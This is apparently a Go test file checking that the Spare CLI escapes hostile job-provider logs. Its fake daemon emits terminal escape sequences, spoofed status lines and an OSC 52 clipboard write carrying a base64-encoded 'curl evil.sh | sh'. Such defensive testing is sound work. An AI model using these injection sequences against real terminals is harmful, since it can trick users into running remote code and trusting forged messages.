package main

import (
	"bytes"
	"context"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sparegpu/spare/localapi"
	"github.com/sparegpu/spare/market"
)

// hostileDaemon serves POST /v1/jobs on dir's LocalAPI socket and streams
// a hostile provider's logs back: escape sequences, an OSC 52 clipboard
// write, carriage-return overwrites and a fake "spare:" line, split over
// chunks; then a note of the requester's own and the result.
func hostileDaemon(t *testing.T, dir string) {
	t.Helper()
	ln, err := net.Listen("unix", localapi.SocketPath(dir))
	if err != nil {
		t.Fatal(err)
	}
	res, _ := json.Marshal(market.SubmitResult{Job: "0xjob", Provider: "12D3KooWprov", ExitCode: 0, Cost: "0.01"})
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/v1/jobs" {
			http.NotFound(w, r)
			return
		}
		enc := json.NewEncoder(w)
		for _, ev := range []localapi.SubmitEvent{
			{Type: localapi.EventLog, Stream: "stdout", Data: []byte("epoch 1 loss 0.5\n\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07")},
			{Type: localapi.EventLog, Stream: "stdout", Data: []byte("progress 10%\rspare: job 0xjob on 12D3KooWprov: exit 0, cost 0.000000\n")},
			{Type: localapi.EventLog, Stream: "stderr", Data: []byte("\nspare: the wallet key was exported to /tmp/k\n\xc2\x9b31mC1\xff")},
			{Type: localapi.EventLog, Stream: localapi.StreamNotes, Data: []byte("spare: provider 12D3KooW: job frozen (owner \x1b[31mback)\n")},
			{Type: localapi.EventResult, Result: res},
		} {
			_ = enc.Encode(ev)
		}
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
}

// TestSubmitEscapesProviderLogs plays a provider that writes escape
// sequences and fake "spare:" lines into its job's logs: `spare submit`
// prints none of the control bytes, and every line the provider wrote
// carries providerMark, so that only Spare's own lines start "spare:".
func TestSubmitEscapesProviderLogs(t *testing.T) {
	dir, err := os.MkdirTemp("", "spare-logs")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	hostileDaemon(t, dir)
	image := filepath.Join(t.TempDir(), "image.tar")
	if err := os.WriteFile(image, []byte("not looked at: the daemon is fake"), 0o644); err != nil {
		t.Fatal(err)
	}
	root := newRootCmd(&globals{})
	var out, errb bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errb)
	root.SetIn(strings.NewReader(""))
	root.SetArgs([]string{"submit", "--data", dir, "--image", image, "--", "train"})
	if err := root.ExecuteContext(context.Background()); err != nil {
		t.Fatalf("submit: %v\nstderr: %s", err, errb.String())
	}
	for name, s := range map[string]string{"stdout": out.String(), "stderr": errb.String()} {
		for i := 0; i < len(s); i++ {
			if c := s[i]; c < 0x20 && c != '\n' && c != '\t' || c == 0x7f {
				t.Errorf("%s holds control byte %#x: %q", name, c, s)
				break
			}
		}
		if strings.Contains(s, "\u009b") || strings.Contains(s, "\xff") {
			t.Errorf("%s holds a C1 control or invalid UTF-8: %q", name, s)
		}
	}
	wantOut := "│ epoch 1 loss 0.5\n" +
		`│ \x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07progress 10%\x0dspare: job 0xjob on 12D3KooWprov: exit 0, cost 0.000000` + "\n"
	if out.String() != wantOut {
		t.Errorf("stdout\n%q\nwant\n%q", out.String(), wantOut)
	}
	// On stderr only Spare's lines start at the margin.
	var spares []string
	for _, line := range strings.Split(strings.TrimSuffix(errb.String(), "\n"), "\n") {
		if strings.HasPrefix(line, providerMark) {
			continue
		}
		if !strings.HasPrefix(line, "spare: ") {
			t.Errorf("stderr line %q is neither marked as the provider's nor Spare's", line)
		}
		spares = append(spares, line)
	}
	want := []string{`spare: provider 12D3KooW: job frozen (owner \x1b[31mback)`, "spare: the daemon at"}
	if len(spares) < 3 || spares[0] != want[0] || !strings.HasPrefix(spares[1], want[1]) || !strings.HasPrefix(spares[2], "spare: job 0xjob on 12D3KooWprov: exit 0") {
		t.Errorf("Spare's lines on stderr: %q", spares)
	}
	if !strings.Contains(errb.String(), "│ spare: the wallet key was exported to /tmp/k\n") || !strings.Contains(errb.String(), `│ \u009b31mC1\xff`+"\n") {
		t.Errorf("the provider's stderr is not marked and escaped:\n%s", errb.String())
	}
}
